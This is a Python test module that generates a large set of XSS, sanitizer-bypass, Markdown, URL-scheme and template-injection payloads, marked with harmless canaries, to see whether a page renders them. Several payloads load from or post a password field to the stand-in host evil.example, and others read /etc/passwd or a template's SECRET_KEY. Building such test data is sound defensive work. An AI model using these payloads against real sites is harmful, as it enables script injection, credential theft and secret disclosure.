"""Texts that would run, load or plant something if a page took them for more than text: vectors × contexts × spellings.

Each tries to set ``window.__ran`` or to open a dialog, and what would become an element carries ``data-planted`` (or,
where a column holds a few characters only, an ``on…`` attribute): a page on which it stands is seen even where the
content policy stops the script.
"""

from base64 import b64encode
from collections.abc import Iterator
from html import escape
from itertools import chain, islice
from urllib.parse import quote

RUN = "__ran=1"
MARK = "data-planted"
OTHER_HOST = "evil.example"

ELEMENTS = (
    f"<script {MARK}>{RUN}</script>",
    f"<script src=//{OTHER_HOST}/x.js {MARK}></script>",
    f"<script src=data:,{RUN} {MARK}></script>",
    f"<script type=module {MARK}>{RUN}</script>",
    f"<img src=x onerror={RUN} {MARK}>",
    f"<img srcset=x onerror={RUN} {MARK}>",
    f"<image src=x onerror={RUN} {MARK}>",
    f"<svg onload={RUN} {MARK}>",
    f"<svg {MARK}><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg {MARK}><set onbegin={RUN} attributename=x>",
    f"<svg {MARK}><script>{RUN}</script></svg>",
    f'<svg {MARK}><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f'<svg {MARK}><use href="data:image/svg+xml,<svg id=x onload={RUN} />#x">',
    f"<svg {MARK}><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<math {MARK}><maction actiontype=statusline xlink:href="javascript:{RUN}">x</maction></math>',
    f'<math href="javascript:{RUN}" {MARK}>x</math>',
    f"<body onload={RUN} {MARK}>",
    f"<body onpageshow={RUN} {MARK}>",
    f"<video {MARK}><source onerror={RUN}></video>",
    f"<video src=x onloadstart={RUN} {MARK}></video>",
    f"<audio src=x onerror={RUN} {MARK}></audio>",
    f"<input autofocus onfocus={RUN} {MARK}>",
    f"<input type=image src=x onerror={RUN} {MARK}>",
    f"<textarea autofocus onfocus={RUN} {MARK}></textarea>",
    f"<select autofocus onfocus={RUN} {MARK}></select>",
    f"<button autofocus onfocus={RUN} {MARK}>x</button>",
    f"<details open ontoggle={RUN} {MARK}>x</details>",
    f"<marquee onstart={RUN} {MARK}>x</marquee>",
    f"<div tabindex=1 autofocus onfocus={RUN} {MARK}>x</div>",
    f"<x contenteditable autofocus onfocus={RUN} {MARK}>x",
    f"<div onpointerover={RUN} {MARK}>x</div>",
    f"<style onload={RUN} {MARK}></style>",
    f"<style {MARK}>@import '//{OTHER_HOST}/x.css';*{{display:none}}</style>",
    f"<link rel=stylesheet href=//{OTHER_HOST}/x.css onerror={RUN} {MARK}>",
    f"<object data='javascript:{RUN}' {MARK}></object>",
    f"<embed src='javascript:{RUN}' {MARK}>",
    f"<iframe src='javascript:parent.{RUN}' {MARK}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>" {MARK}></iframe>',
    f"<frameset onload={RUN} {MARK}>",
    f"<base href=//{OTHER_HOST}/ {MARK}>",
    f"<meta http-equiv=refresh content='0;url=//{OTHER_HOST}/' {MARK}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}' {MARK}>",
    f"<form action='javascript:{RUN}' {MARK}><button>x</button></form>",
    f"<form action=//{OTHER_HOST}/ {MARK}><input name=password></form>",
    f"<button formaction='javascript:{RUN}' form=x {MARK}>x</button>",
    f"<div style='background:url(//{OTHER_HOST}/x)' {MARK}>x</div>",
    f"<table background='javascript:{RUN}' {MARK}><td>x</table>",
    f"<template shadowrootmode=open><img src=x onerror={RUN} {MARK}></template>",
)
"""Elements that run, load or send something."""

CONTEXTS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "</option></select>", "]]>")
"""What a text may have to end before an element of its own can begin."""

ATTRIBUTES = tuple(
    f"{end}{gap}{event}={RUN} {MARK}{more} x={end}"
    for end, gap in (('"', " "), ("'", " "), ("", " "), ('"', "/"), ('"', "\n"), ("`", " "))
    for event, more in (("onmouseover", ""), ("onfocus", " autofocus tabindex=1"), ("onclick", " style=position:fixed"))
)
"""Further attributes for the element in whose attribute the text stands."""

_DATA = b64encode(f"<script>parent.{RUN}</script>".encode()).decode()
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}", f"javascript\t:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}", f"java&Tab;script:{RUN}", f"javascript:/*--></title>*/{RUN}",
    f"javascript://%0a{RUN}", "javascript:%5f%5fran=1", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{_DATA}", f"data:image/svg+xml,<svg onload={RUN}>", f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}", f"blob:https://{OTHER_HOST}/1", "file:///etc/passwd",
    f"https:javascript:{RUN}", f"\\javascript:{RUN}", f"ｊavascript:{RUN}",
)  # fmt: skip
CARRIERS = (
    "{0}",
    f'<a href="{{0}}" {MARK}>x</a>',
    "[planted]({0})",
    "[planted](<{0}>)",
    "<{0}>",
    "[planted][p{1}]\n\n[p{1}]: {0}",
    f'<iframe src="{{0}}" {MARK}></iframe>',
)
"""How an address comes into a page; the numbers keep definitions of references apart."""

MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN} {MARK}>">',
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN} {MARK}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN} {MARK}&gt;\">",
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN} {MARK}>',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN} {MARK}></annotation-xml></math>",
    f"<svg><desc><img src=x onerror={RUN} {MARK}></desc></svg>",
    f"<svg><title><img src=x onerror={RUN} {MARK}></title></svg>",
    f"<select><template><img src=x onerror={RUN} {MARK}></template></select>",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN} {MARK}>\">",
    f"<listing>&lt;img src=x onerror={RUN} {MARK}&gt;</listing>",
    f"<plaintext><img src=x onerror={RUN} {MARK}>",
    f"<noembed><img title=\"</noembed><img src=x onerror={RUN} {MARK}>\"></noembed>",
    f"<!--><img src=x onerror={RUN} {MARK}>-->",
    f"<!--!><img src=x onerror={RUN} {MARK}>",
    f"<![CDATA[><img src=x onerror={RUN} {MARK}>]]>",
    f"<?xml-stylesheet href=\"javascript:{RUN}\"?><img src=x onerror={RUN} {MARK}>",
    f"<a <img src=x onerror={RUN} {MARK}>",
    f"<<img src=x onerror={RUN} {MARK}>>",
    f"<img src=x onerror={RUN} {MARK}//",
    f"<img src=x onerror={RUN} {MARK} ",
    f"<scr<script>ipt {MARK}>{RUN}</scr</script>ipt>",
    f"<img/src=x/onerror={RUN}/{MARK}>",
    f"<IMG\tSRC=x\tONERROR={RUN}\t{MARK.upper()}>",
    f"<img\nsrc=x\nonerror={RUN}\n{MARK}>",
    f"<img\x0csrc=x\x0conerror={RUN}\x0c{MARK}>",
    f"<img src=x onerror=&#95;&#95;ran&#61;1 {MARK}>",
    f"<img src=x onerror='\\u005f_ran=1' {MARK}>",
    f"<img src=`x` onerror=`{RUN}` {MARK}>",
    f"<img src=x onerror=alert(1) {MARK}>",
    f"<img src=x onerror=confirm`1` {MARK}>",
    f"<script {MARK}>prompt(1)</script>",
    f"</p></div></main></body></html><script {MARK}>{RUN}</script>",
)  # fmt: skip
"""What a cleaner and a browser read differently."""

MARKDOWN = (
    f"**_<b {MARK} onclick={RUN}>_**x</b>",
    f"`<img src=x onerror={RUN} {MARK}>`",
    f"``` \"><img src=x onerror={RUN} {MARK}>\nx\n```",
    f"```html onmouseover={RUN}\n<script {MARK}>{RUN}</script>\n```",
    f"    <script {MARK}>{RUN}</script>",
    f"> <iframe {MARK} onload={RUN}>",
    f"- <svg/onload={RUN} {MARK}>",
    f"| a | <b {MARK}> |\n|---|:--:|\n| \"><img src=x onerror={RUN} {MARK}> | [x](javascript:{RUN}) |",
    f"[planted](https://example.org \"onmouseover={RUN} {MARK}\")",
    f"[planted](https://example.org/\"onmouseover={RUN}/{MARK})",
    f"[planted](https://example.org/'\"><img/src/onerror={RUN}/{MARK}>)",
    f"[planted](https://example.org){{.x onclick={RUN} {MARK}}}",
    f"planted{{onclick={RUN} {MARK}}}",
    f"[<img src=x onerror={RUN} {MARK}>](https://example.org)",
    f"[a](javascript:{RUN} 'b' [c](vbscript:{RUN}))",
    f"[^1]: <script {MARK}>{RUN}</script>\n\nplanted[^1]",
    f"<https://example.org/\"onclick=\"{RUN}\"{MARK}>",
    f"<a@example.org\"onclick={RUN}>",
    f"[planted](mailto:a@example.org?body=<script>{RUN}</script>)",
    f"[planted](\\javascript:{RUN})",
    f"[planted](javascript\\:{RUN})",
    f"*[planted]: <b {MARK}>",
    f":::<b {MARK}>\nx\n:::",
    f"$$<b {MARK} onclick={RUN}>$$",
    f"***[__~~<b {MARK}>~~__](data:text/html,{RUN})***",
    "&lt;script data-planted&gt;__ran=1&lt;/script&gt;",
    "&#60;script data-planted&#62;__ran=1&#60;/script&#62;",
    "\\<script data-planted>__ran=1\\</script>",
)  # fmt: skip

PROGRAMS = (
    f'"}}</script><script {MARK}>{RUN}</script>',
    f"<!--<script {MARK}>{RUN}//",
    f'","url":"javascript:{RUN}","x":"',
    f"\u2028{RUN}\u2029{RUN}",
    f"';{RUN};//",
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"`-({RUN})-`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ settings.SECRET_KEY }}{{ 7|add:7 }}",
    "{% load static %}{% debug %}",
    "{% include 'admin/base.html' %}",
    f"{{% autoescape off %}}<b {MARK}>{{% endautoescape %}}",
    f"<%= {RUN} %>#{{{RUN}}}",
    "%(name)s %s %n {0.__class__} {name!r}",
    "<!--slot:due--><!--slot:end--><!--slot:audience:clinician-->",
    f"<!--slot:notes--><b {MARK}>",
    f"\u202e<b {MARK}>\u202c",
    f"\ufeff<b {MARK}>\u200b",
    f"<\u200bscript {MARK}>{RUN}</script>",
    f"＜script {MARK}＞{RUN}＜/script＞",
    f"\x1b]8;;javascript:{RUN}\x07planted",
    f"expression({RUN});behavior:url(//{OTHER_HOST}/x)",
    f"}}*{{background:url(//{OTHER_HOST}/x)}}</style><b {MARK}>",
    f"{'A' * 3000}<img src=x onerror={RUN} {MARK}>",
    f"{'<b>' * 300}<img src=x onerror={RUN} {MARK}>",
    f'{"x" * 200}"{"" :>60}onmouseover={RUN} {MARK}="',
)  # fmt: skip
"""For scripts, templates, style sheets and terminals; and long ones."""

SHORT = ('"><b onx=1>', "'><b onx=1>", "<b onx=1>", f'"><b {MARK}>', f"<b {MARK}>", f"<svg onload={RUN} {MARK}>")
"""For columns of a few characters."""


def _encoded(text: str) -> Iterator[str]:
    yield text.upper().replace(RUN.upper(), RUN)
    yield escape(text)
    yield quote(text)
    yield quote(quote(text))
    yield text.replace("<", "\\u003c").replace(">", "\\u003e")
    yield "".join(f"&#{ord(letter)};" if letter in "<>\"'" else letter for letter in text)


def _all() -> Iterator[str]:
    yield from (f"{context}{element}" for element in ELEMENTS for context in CONTEXTS)
    yield from ATTRIBUTES
    yield from (
        carrier.format(address, 100 * place + number)
        for place, address in enumerate(ADDRESSES)
        for number, carrier in enumerate(CARRIERS)
    )
    yield from (*MUTATIONS, *MARKDOWN, *PROGRAMS, *SHORT)
    for element in ELEMENTS[:16]:
        yield from _encoded(element)


PAYLOADS = tuple(dict.fromkeys(_all()))
"""All of them, each once."""


class Supply:
    """Hands them out in turn, so that rows and fields differ and all come to be used."""

    def __init__(self) -> None:
        self.place = 0
        self.used: set[str] = set()
        self.passed_over: list[str] = []

    def some(self, room: int, *, most: int = 4) -> str:
        """As many as fit into so many characters, up to ``most``; at least a short one. What didn't fit comes first
        where there is more room.
        """
        chosen: list[str] = []
        left = room
        waiting, self.passed_over = self.passed_over, []
        for payload in chain(waiting, islice(self._turning(), 40)):
            if len(chosen) == most or len(payload) >= left:
                self.passed_over.append(payload)
                if len(chosen) == most and payload not in waiting:
                    break
                continue
            chosen.append(payload)
            left -= len(payload) + 1
        self.passed_over = [payload for payload in dict.fromkeys(self.passed_over) if payload not in self.used]
        chosen = chosen or [next(text for text in (*SHORT[3:], *SHORT) if len(text) <= room)]
        self.used.update(chosen)
        return " ".join(chosen)

    def _turning(self) -> Iterator[str]:
        while True:
            self.place += 1
            yield PAYLOADS[self.place % len(PAYLOADS)]
